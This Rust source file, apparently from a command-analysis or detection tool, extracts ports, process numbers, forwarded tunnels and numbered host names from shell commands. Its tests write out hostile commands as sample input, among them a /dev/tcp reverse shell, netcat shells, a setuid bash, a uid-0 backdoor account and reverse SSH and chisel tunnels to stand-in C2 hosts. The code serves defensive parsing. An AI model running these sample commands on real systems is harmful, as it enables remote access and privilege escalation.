//! The numbers that a command was given.

use super::mask::{GUID, is_guid, is_hexadecimal};
use super::named::is_name;
use super::temporary;
use super::token::is_made_up;
use super::varies::{differs_each_time, ends_with};

/// The numbers in a command, each with the word before it: `chmod 4755`, `/d 1`, `evil.example 8080`. Not those of processes and times.
pub(super) fn numbers(command: &str) -> impl Iterator<Item = String> {
    const MOST_BYTES: usize = 8_192;
    let (mut before, mut tool) = ("", None);
    crate::text::cut(command, MOST_BYTES)
        .split(|c: char| c.is_whitespace() || matches!(c, '=' | ',' | ';' | '"' | '\'' | '(' | ')' | '{' | '}'))
        .filter(|word| !word.is_empty())
        .filter_map(move |word| {
            let option = std::mem::replace(&mut before, word).trim_start_matches(['-', '/', '+']);
            tool = Tool::behind(tool, word);
            if is_number(word) {
                let passing = is_passing(option) || tool.is_some_and(|tool| tool.is_told_a_process(option));
                return (!passing).then(|| format!("{} {word}", shown(option)));
            }
            // One alone is most often a handle, unless it is what a value is set to: `reg add … /d 0x1`.
            if is_byte(word) {
                let is_set = ["d", "value"].iter().any(|name| option.eq_ignore_ascii_case(name));
                return (is_set || is_byte(option)).then(|| format!("{option} {word}").to_lowercase());
            }
            if tool == Some(Tool::Installer) && word.len() == GUID && is_guid(word) {
                return Some(format!("{} {}", shown(option), word.to_lowercase()));
            }
            if let Some(ports) = forwarded(option, word) {
                return Some(format!("forward {ports}"));
            }
            // `/dev/tcp/203.0.113.9/4444`, which the shell reads as a connection.
            let reached = ["/dev/tcp/", "/dev/udp/"]
                .iter()
                .find_map(|folder| word.split_once(folder));
            if let Some((_, (_, rest))) = reached.and_then(|(before, rest)| Some((before, rest.split_once('/')?))) {
                let digits = rest.find(|c: char| !c.is_ascii_digit()).unwrap_or(rest.len());
                if is_number(&rest[..digits]) {
                    return Some(format!("port {}", &rest[..digits]));
                }
            }
            // `http://evil.example:8080/x`, but no time of a day.
            let (host, rest) = word.rsplit_once(':')?;
            let port = rest.split('/').next().unwrap_or_default();
            let named = host.contains(|c: char| c.is_alphabetic() || c == '.');
            (named && port.len() > 1 && is_number(port) && !differs_each_time("", word)).then(|| format!("port {port}"))
        })
}

/// The ports that one machine passes on to another: `-R 4444:localhost:22`, `R:4444:localhost:22`.
fn forwarded(option: &str, word: &str) -> Option<String> {
    if word.contains("://") {
        return None;
    }
    let is_short = (1..=6).contains(&option.len()) && option.bytes().all(|byte| byte.is_ascii_alphanumeric());
    let named = is_short && option.ends_with(['R', 'L']);
    let letters = |text: &str| text.find(|c: char| !c.is_ascii_alphabetic()).unwrap_or(text.len());
    // `-fNR4444:localhost:22`.
    let attached = word.strip_prefix('-').map(|word| word.split_at(letters(word)));
    let attached = attached.filter(|(options, _)| options.len() <= 6 && options.ends_with(['R', 'L']));
    let own = word.strip_prefix("R:").or(attached.map(|(_, places)| places));
    let places = own.or(named.then_some(word)).filter(|places| places.contains(':'))?;
    let ports: Vec<_> = places.split([':', '/']).filter(|part| is_number(part)).collect();
    (!ports.is_empty()).then(|| ports.join(":"))
}

/// The names in a command of which a part is a number alone: `srv-01`, `c2-01.example`, `svc_01`. Others stand in the key.
pub(super) fn names(command: &str) -> impl Iterator<Item = String> {
    const MOST_BYTES: usize = 8_192;
    let head = crate::text::cut(command, MOST_BYTES);
    let joins = |byte: &u8| matches!(byte, b'-' | b'_' | b'.');
    let bytes = head.as_bytes();
    let may_be = bytes
        .windows(3)
        .any(|three| three[0].is_ascii_alphanumeric() && joins(&three[1]) && three[2].is_ascii_digit());
    let plain = if may_be {
        temporary::without_names(head)
    } else {
        String::new()
    };
    let found: Vec<_> = plain
        .split(|c: char| !c.is_alphanumeric() && !matches!(c, '-' | '_' | '.' | '#'))
        .map(|word| word.trim_matches(['-', '_', '.']))
        // Programs number their pipes: `gecko-crash-server-pipe.4712`.
        .filter(|word| is_chosen(word) && !is_pipe(word))
        .map(str::to_lowercase)
        .collect();
    found.into_iter()
}

/// Whether a word is a name of which a part is a number alone, and tells neither a date nor what was made up.
fn is_chosen(word: &str) -> bool {
    let is_digits = |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
    let parts = || word.split(['-', '_', '.']);
    let is_year = |part: &str| part.len() == 4 && (part.starts_with("19") || part.starts_with("20"));
    let is_date = || {
        let ends = parts().skip(1);
        parts()
            .zip(ends)
            .any(|(one, next)| is_year(one) && is_digits(one) && is_digits(next))
    };
    parts().any(is_digits) && is_name(word) && !word.contains('#') && !is_date() && !parts().any(is_made_up)
}

fn is_pipe(word: &str) -> bool {
    let numbered = word.rsplit_once('.');
    let is_number = |number: &str| !number.is_empty() && number.bytes().all(|byte| byte.is_ascii_digit());
    numbered.is_some_and(|(name, number)| name.to_ascii_lowercase().ends_with("pipe") && is_number(number))
}

/// Whether a command names a file by where it is seen from: `./x`, or a script by its name alone.
pub(super) fn is_relative(command: &str) -> bool {
    const HEAD: usize = 1_024;
    const SCRIPTS: [&str; 13] = [
        "sh", "bash", "py", "pl", "rb", "php", "ps1", "bat", "cmd", "vbs", "js", "jar", "dll",
    ];
    let is_script = |word: &str| {
        let named = word
            .rsplit_once('.')
            .filter(|(stem, _)| !stem.is_empty() && !stem.starts_with('-'));
        named.is_some_and(|(_, extension)| SCRIPTS.iter().any(|script| script.eq_ignore_ascii_case(extension)))
    };
    crate::text::cut(command, HEAD)
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ',' | ';' | '=' | '(' | ')'))
        .any(|word| {
            ["./", "../", ".\\", "..\\"].iter().any(|start| word.starts_with(start))
                || (!word.contains(['/', '\\']) && is_script(word))
        })
}

/// Whether a word is a number that may say what was done. A longer one counts something, or is a time.
fn is_number(word: &str) -> bool {
    const LONGEST: usize = 5;
    (1..=LONGEST).contains(&word.len()) && word.bytes().all(|byte| byte.is_ascii_digit())
}

/// Whether a word is a byte of a program that a script holds, `0xfc`. Handles and the like have more digits.
fn is_byte(word: &str) -> bool {
    let digits = word.strip_prefix("0x").or_else(|| word.strip_prefix("0X"));
    digits.is_some_and(|digits| matches!(digits.len(), 1 | 2) && is_hexadecimal(digits))
}

/// Whether what is given behind a word is a process, a time, or has another number in each run.
fn is_passing(option: &str) -> bool {
    const NAMES: [&str; 22] = [
        "pid",
        "ppid",
        "tid",
        "job",
        "jobid",
        "task",
        "id",
        "session",
        "ses",
        "thread",
        "handle",
        "seq",
        "time",
        "ts",
        "timestamp",
        "timeout",
        "interval",
        "sleep",
        "wait",
        "kill",
        "count",
        "parent",
    ];
    const ENDS: [&str; 5] = ["pid", "-id", "_id", "handle", "ticks"];
    // Those of accounts are whose they are.
    const ACCOUNTS: [&str; 4] = ["user", "group", "account", "owner"];
    let lower = option.to_ascii_lowercase();
    NAMES.contains(&lower.as_str())
        || (ENDS.iter().any(|end| lower.ends_with(end)) && !ACCOUNTS.iter().any(|whose| lower.contains(whose)))
}

/// The end of a word: whatever a long text is called, it tells as much. The numbers of pipes are those of one run.
fn shown(option: &str) -> String {
    const LONGEST: usize = 64;
    let stem = option.trim_end_matches(|c: char| c.is_ascii_digit() || c == '_');
    let option = if ends_with(stem, "pipe") { stem } else { option };
    option[option.ceil_char_boundary(option.len().saturating_sub(LONGEST))..].to_lowercase()
}

/// A program that is told the number of a process, or which product it is about.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Tool {
    /// By numbers alone: `kill -9 4711`.
    Signal,
    /// Behind `-p`: `strace -p 4711`.
    Tracer,
    /// By all that it is given: `WerFault.exe -u -p 4008 -s 504`.
    Reporter,
    /// A product by its GUID: `msiexec /x {…}`.
    Installer,
}

impl Tool {
    /// Which of them is given what follows a word.
    fn behind(tool: Option<Self>, word: &str) -> Option<Self> {
        let name = word.rsplit(['/', '\\']).next().unwrap_or_default();
        let name = name.to_ascii_lowercase();
        match name.strip_suffix(".exe").unwrap_or(&name) {
            "kill" | "skill" => Some(Self::Signal),
            "strace" | "ltrace" | "gdb" | "lsof" | "perf" | "renice" | "taskset" => Some(Self::Tracer),
            "werfault" | "werfaultsecure" | "wermgr" => Some(Self::Reporter),
            "msiexec" => Some(Self::Installer),
            "&&" | "||" | "|" | "&" => None,
            // Neither an option, nor a number, nor the name of a signal.
            _ if tool == Some(Self::Signal)
                && !word.starts_with('-')
                && !word
                    .bytes()
                    .all(|byte| byte.is_ascii_digit() || byte.is_ascii_uppercase()) =>
            {
                None
            }
            _ => tool,
        }
    }

    fn is_told_a_process(self, option: &str) -> bool {
        match self {
            Self::Signal | Self::Reporter => true,
            Self::Tracer => option == "p",
            Self::Installer => false,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn numbers_of_a_command_come_with_the_word_before_them_and_those_of_processes_pass() {
        for (command, expected) in [
            ("chmod 4755 /bin/bash", &["chmod 4755"][..]),
            ("nc -l 4444", &["l 4444"]),
            ("useradd --user-id 0 eve", &["user-id 0"]),
            ("useradd -o -u 0 eve", &["u 0"]),
            ("kill 4711 && nc -l 4444", &["l 4444"]),
            ("curl http://a.example:8080/x", &["port 8080"]),
            ("nc -p 4444 -e sh", &["p 4444"]),
            ("reg.exe add X /v Y /t REG_DWORD /f /d 0x1", &["d 0x1"]),
            ("a.exe 0x9c", &[]),
        ] {
            assert_eq!(numbers(command).collect::<Vec<_>>(), expected, "{command}");
        }
        for command in [
            "bash ./x",
            r"cmd /c .\\run",
            "../run.sh",
            "python3 exploit.py",
            r#"cmd /c "run.bat""#,
        ] {
            assert!(is_relative(command), "{command}");
        }
        for command in [
            "bash /opt/x.sh",
            "net user bob",
            "a.exe -k x",
            r"C:\\a\\b.bat",
            "tar xf a.tar",
            ".sh",
            "",
        ] {
            assert!(!is_relative(command), "{command}");
        }
        for (command, expected) in [
            ("ssh -R 4444:localhost:22 a.example", &["forward 4444:22"][..]),
            ("ssh -fNR4444:localhost:22 a.example", &["forward 4444:22"]),
            ("ssh -fNL 0.0.0.0:4444:localhost:22 x", &["forward 4444:22"]),
            (
                "chisel client a.example:8080 R:4444:socks",
                &["port 8080", "forward 4444"],
            ),
            ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", &["port 4444"]),
            ("cat </dev/udp/c2-01.example/53", &["port 53"]),
        ] {
            assert_eq!(numbers(command).collect::<Vec<_>>(), expected, "{command}");
        }
        for command in [
            "/usr/bin/kill 4711",
            "kill -9 4711 4712",
            "/bin/kill -s TERM 4711",
            "/usr/bin/strace -f -o out -p 4711",
            r"C:\Windows\system32\WerFault.exe -u -p 4008 -s 504",
            "chrome.exe --renderer-client-id=17 --launch-time-ticks=12345 --field-trial-handle=1948,i",
            "a.exe --since 2026-11-29T04:00:01",
            "a.exe --since 2026-11-29T04:00:01Z",
        ] {
            assert_eq!(numbers(command).count(), 0, "{command}");
        }
    }
    #[test]
    fn names_whose_number_stands_alone_are_told_and_what_was_made_up_is_not() {
        for (command, expected) in [
            (r"PsExec \\SRV-01 cmd", &["srv-01"][..]),
            ("curl http://c2-01.example/a", &["c2-01.example"]),
            (
                "nc ec2-203-0-113-9.compute.example 22",
                &["ec2-203-0-113-9.compute.example"],
            ),
            ("net user svc-01 /add", &["svc-01"]),
            ("userdel --x='svc_01'", &["svc_01"]),
            ("kubectl exec -it web-0 -- sh", &["web-0"]),
            ("ssh root@db.02", &["db.02"]),
            ("curl pipe-01.evil.example", &["pipe-01.evil.example"]),
        ] {
            assert_eq!(names(command).collect::<Vec<_>>(), expected, "{command}");
        }
        for command in [
            "net user svc1 /add",
            "sh /tmp/web-01.sh",
            "restore db-2026-11-29.bak --since 2026-11-29",
            "restore db-20261129-040001.bak",
            "x sess-4711 worker-17 conn-5001",
            "a.exe --mojo-handle=4008.12345 --x=1948,i 10.0.0.1 0.5",
            "x 5770385f-c22a-43e0-bf4c-06f5698ffbd9",
            "tail -1 v1.2.3",
            r"a.exe \\.\pipe\gecko-crash-server-pipe.4712",
        ] {
            assert_eq!(names(command).count(), 0, "{command}");
        }
    }
}
